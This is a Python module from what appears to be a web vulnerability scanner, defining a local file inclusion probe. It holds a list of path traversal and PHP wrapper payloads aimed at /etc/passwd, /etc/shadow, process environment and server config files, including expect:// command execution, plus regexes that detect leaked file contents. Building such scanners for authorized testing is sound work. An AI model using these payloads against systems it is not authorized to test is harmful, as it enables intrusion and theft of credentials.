"""
SURFACESCAN - Local File Inclusion Probe

Path traversal and PHP wrapper payloads against file-like parameters.
"""

import re
from typing import Optional

from surfacescan.attacks.base import Baseline, Payload, Signature, VulnerabilityProbe
from surfacescan.core.models import ModuleKind, Severity
from surfacescan.utils.http import HTTPResponse


_PASSWD_RE = re.compile(r"[a-z_][a-z0-9_-]*:[x*]:\d+:\d+:", re.IGNORECASE)
_SHADOW_RE = re.compile(r"[a-z_][a-z0-9_-]*:\$[a-z0-9.$]+\$[a-z0-9.$]+\$[a-z0-9.$]+", re.IGNORECASE)
_INI_SECTION_RE = re.compile(r"\[[a-z\s]+\]", re.IGNORECASE)
_INI_COMMENT_RE = re.compile(r";.*comment", re.IGNORECASE)

# Generic file-access traces; counted only when the baseline lacks them
LFI_ERROR_PATTERNS = [re.compile(p, re.IGNORECASE) for p in (
    r"root:x:0:0:",
    r"daemon:x:1:1:",
    r"nobody:x:",
    r"\[boot loader\]",
    r"\[extensions\]",
    r"\[fonts\]",
    r"DOCUMENT_ROOT=",
    r"LoadModule \w+",
    r"allow_url_include",
    r"disable_functions",
    r"failed to open stream",
    r"failed opening required",
    r"Warning:.*include",
    r"Fatal error:.*include",
    r"include_path=",
)]

MAX_DIFFERENTIAL_LENGTH = 100000


class LFIProbe(VulnerabilityProbe):
    """Local file inclusion probe."""

    kind = ModuleKind.LFI
    name = "Local File Inclusion"
    description = "Injects traversal and wrapper payloads into file parameters"

    DEFAULT_PARAMETERS = (
        ("file", "index.php"),
        ("page", "index.php"),
        ("include", "index.php"),
        ("path", "index.php"),
    )
    REQUEST_DELAY = 0.25
    SIZE_CHANGE_THRESHOLD = 0.5

    PAYLOADS = (
        Payload("../../../../../../../etc/passwd", "path_traversal_unix", Severity.CRITICAL),
        Payload("....//....//....//....//....//....//etc/passwd", "path_traversal_bypass", Severity.CRITICAL),
        Payload("..\\..\\..\\..\\..\\..\\..\\etc\\passwd", "path_traversal_windows_style", Severity.HIGH),
        Payload("../../../../../../../windows/system32/drivers/etc/hosts", "path_traversal_windows", Severity.CRITICAL),
        Payload("..\\..\\..\\..\\..\\..\\..\\windows\\win.ini", "path_traversal_win_ini", Severity.HIGH),
        Payload("C:\\windows\\system32\\drivers\\etc\\hosts", "absolute_path_windows", Severity.CRITICAL),
        Payload("../../../../../../../etc/passwd%00", "null_byte", Severity.CRITICAL),
        Payload("../../../../../../../etc/passwd%00.jpg", "null_byte_extension", Severity.CRITICAL),
        Payload("..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd", "url_encoded_traversal", Severity.HIGH),
        Payload("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "double_url_encoded", Severity.HIGH),
        Payload("php://filter/convert.base64-encode/resource=index.php", "php_filter_wrapper", Severity.CRITICAL),
        Payload("php://input", "php_input_stream", Severity.CRITICAL),
        Payload("data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+", "data_uri_wrapper", Severity.CRITICAL),
        Payload("expect://id", "expect_wrapper", Severity.CRITICAL),
        Payload("/var/log/apache2/access.log", "apache_log_access", Severity.HIGH),
        Payload("/var/log/nginx/access.log", "nginx_log_access", Severity.HIGH),
        Payload("../../../../../../../proc/self/environ", "proc_environ", Severity.HIGH),
        Payload("/proc/self/cmdline", "proc_cmdline", Severity.MEDIUM),
        Payload("/proc/self/status", "proc_status", Severity.MEDIUM),
        Payload("../../../../../../../etc/php/7.4/apache2/php.ini", "php_config_access", Severity.HIGH),
        Payload("/etc/apache2/apache2.conf", "apache_config", Severity.HIGH),
        Payload("/etc/nginx/nginx.conf", "nginx_config", Severity.HIGH),
        Payload("/etc/shadow", "shadow_file_access", Severity.CRITICAL),
        Payload("....//....//etc/passwd", "filter_bypass_dot_slash", Severity.HIGH),
        Payload("..;/..;/..;/etc/passwd", "semicolon_bypass", Severity.MEDIUM),
    )

    def match_signature(
        self,
        payload: Payload,
        response: HTTPResponse,
        baseline: Optional[Baseline],
    ) -> Optional[Signature]:
        return check_lfi_signature(response.body, baseline.body if baseline else "")

    def size_changed(self, response: HTTPResponse, baseline: Baseline) -> bool:
        """Only growth counts: included files add content."""
        length = len(response.body)
        if baseline.length == 0 or length >= MAX_DIFFERENTIAL_LENGTH:
            return False
        return length > baseline.length * (1 + self.SIZE_CHANGE_THRESHOLD)


def check_lfi_signature(body: str, baseline_body: str = "") -> Optional[Signature]:
    """Match known file-content shapes in a response body."""
    lower = body.lower()

    match = _PASSWD_RE.search(body)
    if match and "/bin/bash" in body:
        return Signature("Unix password file format detected", 0.99, _around(body, match.start()))

    match = _SHADOW_RE.search(body)
    if match:
        return Signature("Unix shadow file format detected", 0.99, _around(body, match.start()))

    if (_INI_SECTION_RE.search(body) and _INI_COMMENT_RE.search(body)
            and ("fonts" in lower or "extensions" in lower)):
        return Signature("Windows INI file format detected", 0.95)

    if "php.ini" in lower and "extension=" in lower and "allow_url_include" in lower:
        return Signature("PHP configuration file detected", 0.95)

    if "apache2.conf" in lower and "serverroot" in lower and "listen" in lower:
        return Signature("Apache configuration file detected", 0.95)

    if "nginx.conf" in lower and "http {" in lower and "server {" in lower:
        return Signature("Nginx configuration file detected", 0.95)

    for pattern in LFI_ERROR_PATTERNS:
        match = pattern.search(body)
        if match and not pattern.search(baseline_body):
            return Signature(match.group(0), 0.8, _around(body, match.start()))

    return None


def _around(body: str, index: int, context: int = 120) -> str:
    return body[max(0, index - 20):index + context]
